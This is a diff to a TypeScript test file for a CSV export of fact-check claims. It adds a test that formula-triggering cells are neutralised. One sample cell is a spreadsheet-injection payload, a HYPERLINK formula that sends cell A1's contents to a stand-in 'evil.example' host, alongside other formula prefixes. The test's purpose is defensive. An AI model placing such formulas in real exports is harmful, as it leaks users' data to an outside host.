@@ -1,6 +1,6 @@
 import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
-import { CSV_COLUMNS, formatCsv, toCsvRow } from './csv';
+import { CSV_COLUMNS, formatCsv, neutraliseCell, toCsvRow } from './csv';
 import { collect, pagesOf, sampleClaim, sampleContext } from './sample-claims';
 
 describe('formatCsv', () => {
@@ -25,8 +25,31 @@ describe('formatCsv', () => {
     expect(records).toHaveLength(3);
     records.forEach((record, index) => {
       const row = toCsvRow(claims[index]!);
-      expect(Object.values(record)).toEqual(Object.values(row));
+      expect(Object.values(record)).toEqual(Object.values(row).map(neutraliseCell));
     });
+  });
+
+  it('ends every line with CRLF, and neutralises cells a spreadsheet would run as formulas', async () => {
+    const attack = '=HYPERLINK("http://evil.example/?leak="&A1)';
+    const claims = [
+      sampleClaim(1, { statement: attack, rationale: '+1+1', figure: { ...sampleClaim(1).figure!, value: '-16500' } }),
+      sampleClaim(2, { statement: '@SUM(1)', rationale: '-2+3' }),
+      sampleClaim(3, { statement: '\t=1+1', rationale: '\r=1+1' }),
+    ];
+    const text = await collect(formatCsv(pagesOf(claims), sampleContext));
+    expect(text.match(/\r\n/g)).toHaveLength(4); // the header and three rows, none with a line break inside
+    expect(text.replace(/\r\n/g, '')).not.toMatch(/(^|[^\r])\n/);
+    const records = parse(text, { bom: true, columns: true }) as Record<string, string>[];
+    expect(records.map((record) => [record.Statement, record.Rationale])).toEqual([
+      [`'${attack}`, "'+1+1"],
+      ["'@SUM(1)", "'-2+3"],
+      ["'\t=1+1", "'\r=1+1"],
+    ]);
+    expect(records[0]!['Figure value']).toBe('-16500'); // a plain negative number stays a number
+    // The columns a desk asks for: the evidence quotes, the proposal date, the article's address and byline.
+    expect(records[0]!['Evidence quotes']).toContain('“over 16,500 containers”');
+    expect(records[0]!).toMatchObject({ Proposed: '2026-11-20T10:00:00.000Z', Assignee: '' });
+    expect(Object.keys(records[0]!)).toEqual(expect.arrayContaining(['Document address', 'Byline', 'Published']));
   });
 
   it('says which version the quote is from, and when the claim is orphaned there', () => {
